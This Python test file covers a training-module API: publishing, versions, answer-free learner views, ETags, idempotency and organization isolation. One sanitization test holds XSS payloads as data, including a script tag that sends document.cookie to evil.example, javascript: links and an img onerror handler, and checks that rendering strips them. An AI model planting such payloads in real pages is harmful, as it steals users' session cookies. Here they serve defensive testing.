"""Modules through the API: drafts and publication, versions, the two views, safe rendering,
validation, concurrency headers and organization boundaries."""

from __future__ import annotations

import uuid
from typing import Any

import httpx

from tests.training.conftest import Org

MODULE: dict[str, Any] = {
    "title": "Shipping a model responsibly",
    "audience": "both",
    "estimated_minutes": 20,
    "body_markdown": "# Before you ship\n\nRead the **model card**.",
    "links": [{"title": "Model cards", "url": "https://arxiv.org/abs/1810.03993"}],
    "videos": ["https://www.youtube.com/watch?v=dQw4w9WgXcQ"],
    "reflection_prompt": "What would you check first?",
    "knowledge_check": {
        "pass_mark": 50,
        "questions": [
            {
                "id": "q1",
                "kind": "single",
                "prompt": "Where do intended uses go?",
                "choices": [
                    {"id": "card", "text": "The model card", "correct": True},
                    {"id": "readme", "text": "Nowhere"},
                ],
            },
            {"id": "q2", "kind": "short", "prompt": "Name the document", "accepted_answers": ["model card"]},
        ],
    },
}


async def create(client: httpx.AsyncClient, org: Org, **changes: Any) -> httpx.Response:
    return await client.post("/v1/modules", json={**MODULE, **changes}, headers=org.admin)


async def test_a_draft_is_invisible_to_learners_until_published(org: Org) -> None:
    client = org.client
    created = await create(client, org)
    assert created.status_code == 201, created.text
    module = created.json()
    assert (module["status"], module["latest_version"], module["published_version"]) == ("draft", 1, None)
    learner = org.as_person(uuid.uuid4())
    assert (await client.get(f"/v1/modules/{module['id']}", headers=learner)).status_code == 404
    listed = (await client.get("/v1/modules", headers=learner)).json()["items"]
    assert module["id"] not in [item["id"] for item in listed]

    published = await client.post(
        f"/v1/modules/{module['id']}/publish", headers={**org.admin, "If-Match": created.headers["ETag"]}
    )
    assert published.status_code == 200 and published.json()["status"] == "published"
    seen = await client.get(f"/v1/modules/{module['id']}", headers=learner)
    assert seen.status_code == 200
    assert seen.json()["version"] == 1
    assert [item["id"] for item in (await client.get("/v1/modules", headers=learner)).json()["items"]] == [
        module["id"]
    ]


async def test_learners_get_questions_without_answers_and_authors_get_the_key(org: Org) -> None:
    module = await org.module(**{key: MODULE[key] for key in ("knowledge_check", "links", "videos")})
    learner = await org.client.get(f"/v1/modules/{module['id']}", headers=org.as_person(uuid.uuid4()))
    body = learner.json()
    assert "correct" not in learner.text and "accepted_answers" not in learner.text
    assert body["knowledge_check"]["questions"][0]["choices"] == [
        {"id": "card", "text": "The model card"},
        {"id": "readme", "text": "Nowhere"},
    ]
    assert body["videos"] == [
        {
            "url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "embed_url": "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
            "provider": "youtube",
        }
    ]
    authoring = await org.client.get(f"/v1/modules/{module['id']}/authoring", headers=org.admin)
    assert authoring.json()["knowledge_check"]["questions"][1]["accepted_answers"] == ["model card"]
    forbidden = await org.client.get(
        f"/v1/modules/{module['id']}/authoring", headers=org.as_person(uuid.uuid4())
    )
    assert forbidden.status_code == 403


async def test_stored_markdown_with_script_and_javascript_links_renders_without_them(org: Org) -> None:
    hostile = (
        "# Lesson\n\n<script>document.location='https://evil.example/'+document.cookie</script>\n\n"
        '[Open me](javascript:alert(document.cookie)) and <a href="javascript:alert(1)">this</a>\n\n'
        "<img src=x onerror=alert(1)>\n\n[Safe](https://example.org/reading)\n"
    )
    module = await org.module(body_markdown=hostile)
    for headers, path in (
        (org.as_person(uuid.uuid4()), f"/v1/modules/{module['id']}"),
        (org.admin, f"/v1/modules/{module['id']}/authoring"),
    ):
        html = (await org.client.get(path, headers=headers)).json()["body_html"]
        assert "<script" not in html.lower()
        assert 'href="javascript' not in html.lower()
        assert "<img" not in html
        assert '<a href="https://example.org/reading" rel="noopener noreferrer">Safe</a>' in html
    # The Markdown is kept as written (it is text); HTML is never stored, only rendered.
    assert module["body_markdown"] == hostile.strip()


async def test_editing_a_published_module_starts_a_draft_version(org: Org) -> None:
    client = org.client
    module = await org.module(title="Version one")
    learner = org.as_person(uuid.uuid4())
    edited = await client.patch(
        f"/v1/modules/{module['id']}",
        json={"title": "Version two"},
        headers={**org.admin, "If-Match": f'"{module["revision"]}"'},
    )
    assert edited.status_code == 200, edited.text
    draft = edited.json()
    assert (draft["latest_version"], draft["published_version"], draft["has_unpublished_changes"]) == (
        2,
        1,
        True,
    )
    assert (await client.get(f"/v1/modules/{module['id']}", headers=learner)).json()["title"] == "Version one"

    # A draft version is edited in place: still version 2.
    again = await client.patch(
        f"/v1/modules/{module['id']}",
        json={"estimated_minutes": 30},
        headers={**org.admin, "If-Match": edited.headers["ETag"]},
    )
    assert again.json()["latest_version"] == 2
    published = await client.post(
        f"/v1/modules/{module['id']}/publish", headers={**org.admin, "If-Match": again.headers["ETag"]}
    )
    assert published.json()["published_version"] == 2
    seen = (await client.get(f"/v1/modules/{module['id']}", headers=learner)).json()
    assert (seen["version"], seen["title"], seen["estimated_minutes"]) == (2, "Version two", 30)


async def test_updates_need_the_current_etag(org: Org) -> None:
    module = await org.module()
    path = f"/v1/modules/{module['id']}"
    missing = await org.client.patch(path, json={"title": "x"}, headers=org.admin)
    assert missing.status_code == 428
    stale = await org.client.patch(path, json={"title": "x"}, headers={**org.admin, "If-Match": '"1"'})
    assert stale.status_code == 412
    assert (await org.client.get(f"{path}/authoring", headers=org.admin)).json()["title"] == module["title"]


async def test_videos_from_other_hosts_and_non_https_links_are_refused(org: Org) -> None:
    video = await create(org.client, org, videos=["https://videos.example.org/talk.mp4"])
    assert video.status_code == 422
    assert video.json()["errors"][0]["field"] == "body.videos.0"
    link = await create(org.client, org, links=[{"title": "Old", "url": "http://example.org"}])
    assert link.status_code == 422
    assert link.json()["errors"][0]["field"] == "body.links.0.url"
    script_link = await create(org.client, org, links=[{"title": "x", "url": "javascript:alert(1)"}])
    assert script_link.status_code == 422


async def test_an_unusable_knowledge_check_is_a_problem_naming_the_question(org: Org) -> None:
    check = {
        "pass_mark": 80,
        "questions": [{"id": "q1", "kind": "single", "prompt": "?", "choices": [
            {"id": "a", "text": "A", "correct": True}, {"id": "b", "text": "B", "correct": True}]}],
    }  # fmt: skip
    response = await create(org.client, org, knowledge_check=check)
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "body.knowledge_check.questions.0.choices"


async def test_creating_with_the_same_idempotency_key_creates_once(org: Org) -> None:
    headers = {**org.admin, "Idempotency-Key": uuid.uuid4().hex}
    first = await org.client.post("/v1/modules", json=MODULE, headers=headers)
    second = await org.client.post("/v1/modules", json=MODULE, headers=headers)
    assert first.status_code == second.status_code == 201
    assert first.json()["id"] == second.json()["id"]
    assert second.headers["Idempotent-Replayed"] == "true"


async def test_another_organization_sees_nothing(org: Org) -> None:
    module = await org.module()
    other_admin = org.auth("org-elsewhere-" + uuid.uuid4().hex[:6], str(uuid.uuid4()), "admin")
    for method, path in (
        ("GET", f"/v1/modules/{module['id']}"),
        ("GET", f"/v1/modules/{module['id']}/authoring"),
        ("PATCH", f"/v1/modules/{module['id']}"),
        ("POST", f"/v1/modules/{module['id']}/publish"),
    ):
        response = await org.client.request(
            method,
            path,
            headers={**other_admin, "If-Match": '"1"'},
            json={"title": "mine"} if method == "PATCH" else None,
        )
        assert response.status_code == 404, (method, path, response.status_code)
    listed = (await org.client.get("/v1/modules?authoring=true", headers=other_admin)).json()["items"]
    assert listed == []


async def test_the_starter_library_loads_once_per_organization(org: Org) -> None:
    first = await org.client.post("/v1/library/load", headers=org.admin)
    assert first.status_code == 200 and first.json()["loaded"] == 11
    second = await org.client.post("/v1/library/load", headers=org.admin)
    assert second.json()["loaded"] == 0
    ids = lambda body: [m["module_id"] for c in body["collections"] for m in c["modules"]]  # noqa: E731
    assert ids(first.json()) == ids(second.json()) and None not in ids(first.json())
    listed = (await org.client.get("/v1/modules?limit=50", headers=org.as_person(uuid.uuid4()))).json()[
        "items"
    ]
    assert len(listed) == 11 and all(item["has_knowledge_check"] for item in listed)
    assert (await org.client.post("/v1/library/load", headers=org.as_person(uuid.uuid4()))).status_code == 403
